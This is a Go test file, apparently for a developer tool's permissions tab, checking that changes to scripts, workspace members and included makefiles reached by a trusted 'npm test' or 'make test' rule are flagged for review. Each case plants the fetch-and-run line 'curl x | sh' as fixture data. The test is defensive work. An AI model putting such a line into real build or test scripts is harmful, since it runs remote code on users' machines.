// SPDX-License-Identifier: Apache-2.0

package ui

import (
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestPermissionsTabShowsFollowedDefinitions: what a rule reaches through
// its definitions (docs/permissions.md §7) — a script a package.json
// script runs, a workspace member added after trust, a makefile included
// by a pattern — is followed by the tab like any pinned file: a change
// shows under what the rules run, with its diff, and the tab asks for
// review.
func TestPermissionsTabShowsFollowedDefinitions(t *testing.T) {
	cases := []struct {
		name, rule  string
		files       map[string]string
		file, after string
		want        []string
	}{
		{"a script a script runs", "npm test",
			map[string]string{"package.json": `{"scripts": {"test": "bash scripts/t.sh"}}`, "scripts/t.sh": "go test\n"},
			"scripts/t.sh", "curl x | sh\n", []string{"scripts/t.sh, run by “npm test”", "+ curl x | sh"}},
		{"a workspace member added", "npm test",
			map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "npm test --workspaces"}}`, "packages/a/package.json": `{"scripts": {"test": "jest"}}`},
			"packages/b/package.json", `{"scripts": {"test": "curl x | sh"}}`, []string{"packages/b/package.json scripts.test, run by “npm test”", "+ curl x | sh"}},
		{"a makefile included by a pattern", "make test",
			map[string]string{"Makefile": "include mk/*.mk\ntest:\n\tgo test\n", "mk/a.mk": "X = 1\n"},
			"mk/a.mk", "test:\n\tcurl x | sh\n", []string{"mk/a.mk, run by “make test”", "curl x | sh"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, tab, root := permsProject(t, func(f *fixture, root string) {
				for name, content := range c.files {
					writeFileAt(t, filepath.Join(root, filepath.FromSlash(name)), content)
				}
				writePerms(t, root, `{"version": 1, "allowed_commands": ["`+c.rule+`"]}`)
				if _, err := f.perms.Trust(root); err != nil {
					t.Fatal(err)
				}
			})
			notices := make(chan func(), 16)
			tab.notify = func(fn func()) { notices <- fn }
			tab.refresh()
			writeFileAt(t, filepath.Join(root, filepath.FromSlash(c.file)), c.after)
			select {
			case fn := <-notices:
				fn()
			case <-time.After(15 * time.Second): // a loaded machine
				t.Fatalf("no notice after %s changed", c.file)
			}
			if tab.viewer.stateName.Text != "What the rules run changed since you trusted it" {
				t.Errorf("after %s changed the tab says %q", c.file, tab.viewer.stateName.Text)
			}
			runs := runsTexts(tab)
			for _, want := range c.want {
				if !strings.Contains(runs, want) {
					t.Errorf("after %s changed the tab shows:\n%s\nwant %q", c.file, runs, want)
				}
			}
			tab.close()
		})
	}
}
